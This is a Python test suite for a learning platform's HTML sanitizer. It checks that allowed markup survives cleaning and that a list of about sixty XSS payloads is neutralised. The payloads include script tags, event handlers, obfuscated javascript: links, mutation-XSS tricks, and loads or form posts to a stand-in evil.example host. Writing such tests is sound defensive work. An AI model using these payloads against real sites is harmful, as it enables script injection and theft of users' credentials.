"""What people submit as HTML: the allowed survives, nothing executable does."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.html import ALLOWED_TAGS, clean_html, plain_text

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script/xss>alert(1)</script >",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import '//evil.example/x.css'",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><script>alert(1)</script></textarea>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<body onload=alert(1)>",
    "<p onclick='alert(1)'>press</p>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p class='button' data-confirm='x' hx-get='/cms/'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='/\t/evil.example'>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<a href='https://ok.example' onmouseover='alert(1)' target='_blank'>x</a>",
    "<form action='//evil.example'><input name=password><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?>",
    "<p id='x\" onclick=alert(1) y=\"'>x</p>",
    "<td colspan='1\" onclick=\"alert(1)'>x</td>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<p>script>alert(1)</p>",
    "<p/onclick=alert(1)>x",
    '"><script>alert(1)</script>',
    "<x onclick=alert(1)>x</x>",
    "<div><p>unclosed <b>and <i>crossed</b></i>",
]
ALLOWED_ATTRIBUTES = {("a", "href"), ("td", "colspan"), ("td", "rowspan"), ("th", "colspan"), ("th", "rowspan")}


class Findings(HTMLParser):
    """Reads HTML as a browser would and notes whatever our allow-list does not hold."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.odd = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        if tag not in ALLOWED_TAGS:
            self.odd.append(tag)
        for name, value in attributes:
            if (tag, name) not in ALLOWED_ATTRIBUTES and name != "id":
                self.odd.append((tag, name))
            if name == "href" and not self.is_harmless(value):
                self.odd.append(value)

    def is_harmless(self, link: str) -> bool:
        """By what a browser makes of it: control characters dropped, a backslash read as a slash."""
        link = "".join(letter for letter in link if letter > " ").replace("\\", "/").lower()
        return link.startswith(("https://", "http://", "mailto:", "#")) or (
            link.startswith("/") and not link.startswith("//")
        )

    def handle_comment(self, data):
        self.odd.append(f"comment {data}")

    def handle_decl(self, decl):
        self.odd.append(f"declaration {decl}")

    def handle_pi(self, data):
        self.odd.append(f"instruction {data}")


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_executable_survives(html):
    assert Findings(clean_html(html)).odd == []


@pytest.mark.parametrize("html", HOSTILE)
def test_cleaning_hostile_html_twice_changes_nothing(html):
    once = clean_html(html)
    assert clean_html(once) == once


def test_what_stands_inside_a_script_is_no_text():
    assert clean_html("<p>a</p><script>alert('b')</script><style>c{}</style><p>d</p>") == "<p>a</p><p>d</p>"


@pytest.mark.parametrize(
    "html",
    [
        '<h2 id="dose">Dose</h2><p>A <strong>safe</strong> <em>dose</em>, H<sub>2</sub>O, m<sup>2</sup></p>',
        "<ul><li>one</li></ul><ol><li>two</li></ol>",
        "<blockquote><p>Said</p></blockquote><hr>",
        '<p><a href="https://ok.example/a?b=1&amp;c=2#d">x</a> <a href="mailto:a@example.org">y</a></p>',
        '<p><a href="/policies/">policies</a> <a href="#dose">dose</a></p>',
        '<table><thead><tr><th colspan="2">a</th></tr></thead><tbody><tr><td>b</td><td>c</td></tr></tbody></table>',
        "<p>5 &lt; 6 &amp; 7 &gt; 6, naïve, 你好, 🙂</p>",
        "<p>line<br>line <code>x</code> <cite>Book</cite></p>",
    ],
)
def test_what_is_allowed_survives_unchanged(html):
    assert clean_html(html) == html


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.sampled_from("<>/=\"'&;! abipscrtonefjv:#-\\\n\t\x00"), max_size=80))
def test_any_text_is_harmless_after_cleaning_and_cleaning_again_changes_nothing(text):
    once = clean_html(text)
    assert Findings(once).odd == []
    assert clean_html(once) == once


PIECES = "<p> </p> <a href=' '> </a> <table> </table> <td> <li> <b> </b> <script </script> <!-- --> &lt; <svg> <math> <style> </style>"


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(PIECES.split(" ")), max_size=14))
def test_broken_nesting_is_settled_in_one_cleaning(pieces):
    once = clean_html("".join(pieces))
    assert Findings(once).odd == []
    assert clean_html(once) == once


@pytest.mark.parametrize(
    ("html", "words"),
    [
        ("", ""),
        ("<p>one</p><p>two</p>", "one two"),
        ("<ul><li>one</li><li>two</li></ul>", "one two"),
        ("a<br>b<hr/>c", "a b c"),
        ("<td>1</td><td>2</td>", "1 2"),
        ("R&amp;D &lt;now&gt; &nbsp; 5", "R&D <now> 5"),
        ("<p>in<em>side</em></p>", "inside"),
        ("<script>alert(1)</script>words<style>p{}</style>", "words"),
        ("nul\x00l", "null"),
    ],
)
def test_plain_text_gives_the_words(html, words):
    assert plain_text(html) == words
